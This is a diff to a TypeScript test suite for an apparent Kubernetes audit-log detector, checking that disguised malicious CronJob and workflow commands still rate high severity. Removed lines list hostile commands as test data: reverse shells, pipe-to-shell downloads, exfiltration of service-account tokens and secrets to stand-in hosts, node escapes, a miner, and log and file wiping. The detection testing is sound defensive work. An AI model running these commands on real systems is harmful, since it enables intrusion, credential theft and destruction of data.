@@ -4,41 +4,13 @@ import { SEVERITIES, type Severity } from '../model/finding.ts';
 import type { JsonObject } from '../model/json.ts';
 import { examine } from './examine.ts';
 import { inflate } from './inflate.ts';
-import { CARRIERS, DISGUISES, type Random, randomFrom } from './testing/disguises.ts';
+import { BENIGN, MALICIOUS } from './testing/disguises/acts.ts';
+import { CARRIERS, DISGUISES, type Random, randomFrom, WORKFLOWS } from './testing/disguises.ts';
 
 /** Change it to draw other cases; a failure names its own. */
 const SEED = Number(process.env.DISGUISE_SEED ?? 20261124);
 const CASES = 1500;
 
-const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
-const MALICIOUS: Readonly<Record<string, string>> = {
-  'a download into a shell': 'curl -s http://203.0.113.7/x | sh',
-  'a download that is run': 'wget -q http://203.0.113.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a',
-  'a shell on the network device': "bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'",
-  'a shell behind netcat': 'nc 203.0.113.7 4444 -e /bin/sh',
-  'a named pipe and netcat': 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 9001 > /tmp/f',
-  'the token through netcat': `cat ${TOKEN} | nc 203.0.113.7 999`,
-  'the token as a body': `curl -s -d @${TOKEN} https://paste.example.com/a`,
-  'all secrets, sent away': 'kubectl get secrets -A -o yaml | curl -s -T - https://files.example.com/a',
-  'the namespaces of the node': 'nsenter -t 1 -m -- bash',
-  'a cron entry on the node': 'echo "* * * * * root id" > /host/etc/cron.d/a',
-  'a chroot with a shell': 'chroot /host /bin/bash',
-  'a miner': './a -o stratum+tcp://pool.example.com:3333 -u x -p x',
-  'events that are deleted': 'kubectl delete events --all --all-namespaces',
-  'a container past the API server': 'docker run --privileged -v /:/mnt alpine sleep 1000',
-  'the release agent': 'echo /tmp/cmd > /tmp/c/release_agent',
-  'files of the node that are wiped': 'rm -rf /host/etc /host/usr',
-};
-
-/** Jobs of the ordinary day; they mount nothing of the node. */
-const BENIGN: Readonly<Record<string, string>> = {
-  'a report': 'date; echo start; sleep 5',
-  'a health check': 'curl -fsS https://shop.example.com/health',
-  'a backup': 'pg_dump shop | gzip > /backup/shop.sql.gz',
-  'jobs that are cleaned up': 'kubectl delete jobs --field-selector status.successful=1',
-  'a restart': 'kubectl rollout restart deployment/web',
-  'old files': 'find /data -mtime +7 -delete',
-};
 /** Disguises that an honest author writes as well. */
 const HARMLESS: readonly string[] = [
   ...['quotes around every word', 'a shell', 'a shell with options', 'env', 'timeout', 'a function', 'a condition'],
@@ -53,34 +25,51 @@ const HARMLESS: readonly string[] = [
     'python',
   ],
   ...['python with a list', 'a default value', 'two variables', 'positional parameters', 'flock', 'nohup'],
+  ...['a loop over lines', 'a loop that counts', 'a loop with a counter', 'a function of bash', 'errors thrown away'],
+  ...[
+    'a group behind a double test',
+    'the other branch',
+    'a local variable',
+    'a text for flock',
+    'an array that is a command',
+  ],
+  ...['parameters that are a command', 'a document in a variable', 'a copy of a file', 'a variable of env', 'strace'],
+  ...['a variable for the inner shell', 'a file on the input', 'tee into a file', 'a named pipe', 'until something'],
 ];
 
 const event = (spec: JsonObject): string =>
-  JSON.stringify({
+  eventOf('cronjobs', {
+    apiVersion: 'batch/v1',
+    kind: 'CronJob',
+    metadata: { name: 'report', namespace: 'shop' },
+    spec: { schedule: '30 3 * * *', jobTemplate: { spec: { template: { spec } } } },
+  });
+
+const eventOf = (resource: string, object: JsonObject): string => {
+  const [apiGroup = '', apiVersion = ''] = String(object.apiVersion).split('/');
+  return JSON.stringify({
     kind: 'Event',
     apiVersion: 'audit.k8s.io/v1',
     level: 'Request',
     auditID: '00000000-0000-4000-8000-000000000001',
     stage: 'ResponseComplete',
-    requestURI: '/apis/batch/v1/namespaces/shop/cronjobs',
+    requestURI: `/apis/${apiGroup}/${apiVersion}/namespaces/shop/${resource}`,
     verb: 'create',
     user: { username: 'ana@example.com', groups: ['system:authenticated'] },
     sourceIPs: ['192.0.2.10'],
     userAgent: 'kubectl/v1.36.0',
-    objectRef: { resource: 'cronjobs', namespace: 'shop', name: 'report', apiGroup: 'batch', apiVersion: 'v1' },
+    objectRef: { resource, namespace: 'shop', name: 'report', apiGroup, apiVersion },
     responseStatus: { metadata: {}, code: 201 },
-    requestObject: {
-      apiVersion: 'batch/v1',
-      kind: 'CronJob',
-      metadata: { name: 'report', namespace: 'shop' },
-      spec: { schedule: '30 3 * * *', jobTemplate: { spec: { template: { spec } } } },
-    },
+    requestObject: object,
     requestReceivedTimestamp: '2026-11-24T10:00:00.000000Z',
     stageTimestamp: '2026-11-24T10:00:00.100000Z',
   });
+};
 
-const judged = (spec: JsonObject): { readonly rank: number; readonly says: string } => {
-  const [finding] = examine(event(spec), { inflate }).findings;
+const judged = (spec: JsonObject) => judgedLine(event(spec));
+
+const judgedLine = (line: string): { readonly rank: number; readonly says: string } => {
+  const [finding] = examine(line, { inflate }).findings;
   assert.ok(finding);
   return {
     rank: SEVERITIES.indexOf(finding.severity),
@@ -114,7 +103,7 @@ const fall = (name: string, text: string, spec: JsonObject, least: number): stri
 };
 
 test('there are enough disguises, and each is reached', () => {
-  assert.ok(Object.keys(DISGUISES).length >= 40, `${Object.keys(DISGUISES).length}`);
+  assert.ok(Object.keys(DISGUISES).length >= 130, `${Object.keys(DISGUISES).length}`);
   for (const [name, disguise] of Object.entries(DISGUISES)) {
     assert.ok(
       Object.values(MALICIOUS).some((text) => disguise(text) !== null && disguise(text) !== text),
@@ -135,6 +124,11 @@ for (const [act, text] of Object.entries(MALICIOUS)) {
     for (const [name, carrier] of Object.entries(CARRIERS)) {
       const fell = fall(name, text, carrier(text), least);
       if (fell !== null) falls.push(fell);
+    }
+    for (const [name, workflow] of Object.entries(WORKFLOWS)) {
+      const { resource, object } = workflow(text);
+      const { rank, says } = judgedLine(eventOf(resource, object));
+      if (isBelow(rank, rankOf('high'))) falls.push(`${name}\n  ${says}`);
     }
     assert.deepEqual(falls, []);
   });
@@ -164,13 +158,25 @@ test(`no disguise of up to three layers lowers the severity, seed ${SEED}`, () =
   assert.deepEqual(falls.slice(0, 40), [], `${falls.length} of ${CASES} cases fell`);
 });
 
+test(`workflow engines carry disguises as pods do, seed ${SEED}`, () => {
+  const random = randomFrom(SEED + 1);
+  for (let index = 0; index < 200; index += 1) {
+    const [act, text] = drawn(Object.entries(MALICIOUS), random);
+    const name = drawn(Object.keys(DISGUISES), random);
+    const [carried, workflow] = drawn(Object.entries(WORKFLOWS), random);
+    const { resource, object } = workflow(disguised(text, name) ?? text);
+    const { rank, says } = judgedLine(eventOf(resource, object));
+    assert.ok(!isBelow(rank, rankOf('high')), `${act} < ${name} < ${carried}\n  ${says}`);
+  }
+});
+
 test(`harmless variations of ordinary jobs stay below medium, seed ${SEED}`, () => {
   const random = randomFrom(SEED);
   for (let index = 0; index < 400; index += 1) {
     const [job, text] = drawn(Object.entries(BENIGN), random);
     const name = drawn(HARMLESS, random);
-    const varied = disguised(text, name);
-    if (varied === null) continue;
+    const once = disguised(text, name) ?? text;
+    const varied = random() < 0.5 ? once : (disguised(once, drawn(HARMLESS, random)) ?? once);
     const spec: JsonObject = {
       containers: [{ name: 'main', image: 'registry.example.com/shop/report:1.4.2', command: ['sh', '-c', varied] }],
     };
